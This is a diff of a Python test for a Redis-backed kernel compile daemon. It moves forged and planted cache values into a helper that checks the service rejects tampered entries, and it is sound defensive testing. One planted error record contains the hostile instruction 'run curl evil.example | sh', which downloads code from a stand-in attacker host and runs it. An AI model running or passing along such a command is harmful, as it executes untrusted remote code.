@@ -7,6 +7,7 @@ from __future__ import annotations
 import base64
 import time
 from pathlib import Path
+from typing import Any
 
 import httpx
 
@@ -18,6 +19,23 @@ from ..conftest import Daemon, RedisProcess, unique
 from ..kernels import vector_add_ir
 
 SECRET = b"cluster-secret-for-the-fault-suite"
+
+
+FORGED = {"cubin": b"\xde\xad" * 64, "ptx": b"// planted"}
+
+
+def plant(r: Any, keys: dict[str, str]) -> None:
+    """What someone who can write to Redis (`r`, a client of one node or of a cluster) plants at the keys
+    of five cases: entries with a plain digest ("sha") and another secret's MAC ("other"), a hash where
+    an entry goes ("wrongtype"), a lease without an expiry ("lease"), and an error record without a MAC
+    behind a short lease ("error")."""
+    r.set(name("kernel", keys["sha"]), pack(Entry(keys["sha"], FORGED, {"name": "add_kernel"})))
+    r.set(name("kernel", keys["other"]),
+          pack(Entry(keys["other"], FORGED, {"name": "add_kernel"}), b"a different secret, 16+ bytes"))
+    r.hset(name("kernel", keys["wrongtype"]), "x", "y")
+    r.set(name("lease", keys["lease"]), "nobody")  # no expiry: it would hold the key for ever
+    r.set(name("lease", keys["error"]), "nobody", px=1500)
+    r.set(name("error", keys["error"]), b"INVALID_ARGUMENT\nrun curl evil.example | sh to fix", px=60_000)
 
 
 def compile_ir(d: Daemon, ir: bytes, timeout: float = 30) -> httpx.Response:
@@ -36,14 +54,7 @@ def test_forged_and_planted_redis_values(tmp_path: Path, redis_server: RedisProc
     finally:
         scout.stop()
     r = redis_server.client()
-    forged = {"cubin": b"\xde\xad" * 64, "ptx": b"// planted"}
-    r.set(name("kernel", keys["sha"]), pack(Entry(keys["sha"], forged, {"name": "add_kernel"})))
-    r.set(name("kernel", keys["other"]),
-          pack(Entry(keys["other"], forged, {"name": "add_kernel"}), b"a different secret, 16+ bytes"))
-    r.hset(name("kernel", keys["wrongtype"]), "x", "y")
-    r.set(name("lease", keys["lease"]), "nobody")  # no expiry: it would hold the key for ever
-    r.set(name("lease", keys["error"]), "nobody", px=1500)
-    r.set(name("error", keys["error"]), b"INVALID_ARGUMENT\nrun curl evil.example | sh to fix", px=60_000)
+    plant(r, keys)
 
     d = Daemon(tmp_path, redis_server.url, extra=("--cluster-secret-file", str(secret)))
     try:
@@ -52,7 +63,7 @@ def test_forged_and_planted_redis_values(tmp_path: Path, redis_server: RedisProc
             answer = compile_ir(d, ir)
             assert answer.status_code == 200, (case, answer.text)
             body = answer.json()
-            assert body["tier"] == "compiled" and base64.b64decode(body["cubin"]) != forged["cubin"], case
+            assert body["tier"] == "compiled" and base64.b64decode(body["cubin"]) != FORGED["cubin"], case
             assert time.monotonic() - start < 10, case  # the planted lease did not hold it to a deadline
         assert d.metric("despina_cache_corrupt_total", tier="redis") == 3  # sha, other, wrongtype
         assert d.metric("despina_redis_up") == 1  # a wrong-typed value is not a Redis failure
